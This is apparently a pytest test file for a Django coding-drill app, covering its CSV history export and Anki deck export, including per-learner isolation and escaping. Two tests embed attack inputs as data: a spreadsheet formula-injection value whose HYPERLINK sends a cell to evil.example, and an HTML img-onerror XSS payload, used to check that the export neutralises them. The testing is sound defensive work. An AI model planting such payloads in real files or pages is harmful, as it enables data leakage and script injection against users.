"""Export: the whole history as CSV (safe to open in a spreadsheet) and answered challenges as an
Anki deck (highlighted code, escaped text), only ever the learner's own."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import zipfile

import pytest

from challengeapp.models import Challenge, ReviewCard
from challengeapp.services.attempts import attempt_record
from challengeapp.services.export import ANKI_MODEL_ID, CSV_HEADER, anki_deck_id
from challengeapp.templatetags.codedrill import HIGHLIGHT_MAX_CHARS

pytestmark = pytest.mark.django_db


def make_challenge(owner, *, title: str = "Falsy values", answer: int | None = None, **fields) -> Challenge:
    values = {
        "difficulty": "easy",
        "topic": "python",
        "title": title,
        "question": "Which value is falsy?",
        "code": "print(bool([]))",
        "code_language": "python",
        "options": ["[]", "[0]", "'0'", "-1"],
        "correct_index": 0,
        "explanation": "Only the empty list is falsy.",
        "provider": "bank",
        "source_key": f"bank:{title}",
        **fields,
    }
    challenge = Challenge.objects.create(owner=owner, **values)
    if answer is not None:
        attempt_record(challenge=challenge, chosen_index=answer)
    return challenge


def csv_rows(client) -> tuple[object, list[dict[str, str]]]:
    response = client.get("/progress/export.csv")
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())  # UTF-8 with a BOM, for spreadsheet programs
    reader = csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""))
    header, *rows = list(reader)
    assert header == CSV_HEADER
    return response, [dict(zip(header, row)) for row in rows]


def anki_notes(client) -> tuple[object, list[dict]]:
    response = client.get("/progress/export.apkg")
    data = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert "collection.anki2" in package.namelist()
        collection = package.read("collection.anki2")
    database = sqlite3.connect(":memory:")
    database.deserialize(collection)
    notes = [
        {"guid": guid, "model_id": mid, "tags": tags.split(), "fields": fields.split("\x1f")}
        for guid, mid, tags, fields in database.execute("SELECT guid, mid, tags, flds FROM notes ORDER BY id")
    ]
    decks = database.execute("SELECT decks FROM col").fetchone()[0]
    database.close()
    return response, notes, decks


# --- CSV ----------------------------------------------------------------------------------------


def test_the_csv_holds_the_whole_history(learner_client, learner):
    wrong = make_challenge(learner, title="Missed", answer=3)
    make_challenge(learner, title="Known", answer=0, topic="sql", difficulty="hard", code="")
    make_challenge(learner, title="Open")

    response, rows = csv_rows(learner_client)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="codedrill-history-\d{4}-\d{2}-\d{2}\.csv"', response["Content-Disposition"]
    )
    assert [row["title"] for row in rows] == ["Missed", "Known", "Open"]
    missed, known, unanswered = rows
    assert missed["topic"] == "python" and missed["difficulty"] == "easy"
    assert missed["question"] == "Which value is falsy?" and missed["code"] == "print(bool([]))"
    assert [missed[f"option {n}"] for n in range(1, 5)] == ["[]", "[0]", "'0'", "'-1"]
    assert missed["correct option"] == "[]"
    assert missed["your first answer"] == "'-1" and missed["result"] == "wrong"
    assert known["result"] == "right" and known["your first answer"] == "[]" and known["code"] == ""
    card = ReviewCard.objects.get(challenge=wrong)
    assert missed["next review due"] == card.due_at.isoformat(timespec="seconds")
    assert missed["answered at"].startswith(str(wrong.attempt.answered_at.date()))
    assert missed["created"].startswith(str(wrong.created_at.date()))
    assert unanswered["your first answer"] == unanswered["result"] == unanswered["answered at"] == ""
    assert unanswered["next review due"] == ""


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_a_spreadsheet_would_run_as_a_formula_are_quoted(learner_client, learner, start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1, "click")'
    make_challenge(
        learner,
        title=formula,
        question=formula,
        code=formula,
        options=[formula, "[0]", "'0'", "plain"],
        explanation=formula,
        answer=0,
    )
    _, [row] = csv_rows(learner_client)
    for column in ("title", "question", "code", "option 1", "correct option", "your first answer"):
        assert row[column] == "'" + formula, column
    assert row["option 4"] == "plain"


def test_the_csv_has_only_the_learners_own_history(learner_client, learner, other_learner):
    make_challenge(other_learner, title="Grace's secret", answer=1)
    make_challenge(learner, title="Mine", answer=1)
    _, rows = csv_rows(learner_client)
    assert [row["title"] for row in rows] == ["Mine"]


def test_exports_need_a_signed_in_learner(client):
    for path in ["/progress/export.csv", "/progress/export.apkg", "/progress/", "/review/"]:
        response = client.get(path)
        assert response.status_code == 302 and response["Location"].startswith("/sign-in/")


# --- Anki ---------------------------------------------------------------------------------------


def test_the_anki_deck_has_one_note_per_answered_challenge(learner_client, learner):
    make_challenge(learner, title="Missed", answer=3)
    make_challenge(learner, title="Known", answer=0, topic="sql", difficulty="hard")
    make_challenge(learner, title="Open")

    response, notes, decks = anki_notes(learner_client)

    assert response["Content-Type"] == "application/apkg"
    assert re.fullmatch(
        r'attachment; filename="codedrill-history-\d{4}-\d{2}-\d{2}\.apkg"', response["Content-Disposition"]
    )
    assert len(notes) == 2
    missed, known = notes
    front, back = missed["fields"]
    assert "<h3>Missed</h3>" in front and "Which value is falsy?" in front
    # The code, highlighted as text with inline styles (a deck carries no stylesheet of ours).
    assert re.search(r'<span style="[^"]+">print</span>', front)
    assert "<li>[]</li><li>[0]</li><li>&#x27;0&#x27;</li><li>-1</li>" in front
    assert "Answer 1:</b> []" in back and "Only the empty list is falsy." in back
    assert "Only the empty list" not in front
    assert missed["model_id"] == known["model_id"] == ANKI_MODEL_ID
    assert "codedrill::sql" in known["tags"] and "codedrill::hard" in known["tags"]
    assert f'"{anki_deck_id(learner)}"' in decks and '"CodeDrill"' in decks


def test_model_written_text_is_escaped_in_the_deck(learner_client, learner):
    hostile = '<img src=x onerror="alert(1)">'
    make_challenge(
        learner,
        title=hostile,
        question=hostile,
        code=f"print('{hostile}')",
        options=[hostile, "b", "c", "d"],
        explanation=hostile,
        answer=0,
    )
    _, [note], _ = anki_notes(learner_client)
    front, back = note["fields"]
    for field in (front, back):
        assert "<img" not in field
        assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in field


def test_code_past_the_highlighting_bound_is_plain_escaped_text(learner_client, learner):
    code = "x = '<b>'\n" * (HIGHLIGHT_MAX_CHARS // 10 + 1)
    assert len(code) > HIGHLIGHT_MAX_CHARS
    make_challenge(learner, code=code, answer=0)
    _, [note], _ = anki_notes(learner_client)
    front = note["fields"][0]
    assert "<pre>x = &#x27;&lt;b&gt;&#x27;\n" in front
    assert "<span style" not in front


def test_the_deck_keeps_its_ids_from_one_export_to_the_next(learner_client, learner, other_learner):
    make_challenge(learner, answer=0)
    _, first, first_decks = anki_notes(learner_client)
    make_challenge(learner, title="Another", answer=1)
    _, second, second_decks = anki_notes(learner_client)
    # Re-importing updates the same notes in the same deck instead of adding copies.
    assert second[0]["guid"] == first[0]["guid"]
    assert f'"{anki_deck_id(learner)}"' in second_decks
    assert anki_deck_id(learner) != anki_deck_id(other_learner)


def test_the_deck_has_only_the_learners_own_challenges(learner_client, learner, other_learner):
    make_challenge(other_learner, title="Grace's secret", answer=0)
    make_challenge(learner, title="Mine", answer=0)
    _, notes, _ = anki_notes(learner_client)
    assert len(notes) == 1 and "<h3>Mine</h3>" in notes[0]["fields"][0]
    assert "Grace" not in str(notes)


def test_an_empty_history_exports_an_empty_csv_and_deck(learner_client):
    _, rows = csv_rows(learner_client)
    assert rows == []
    _, notes, _ = anki_notes(learner_client)
    assert notes == []
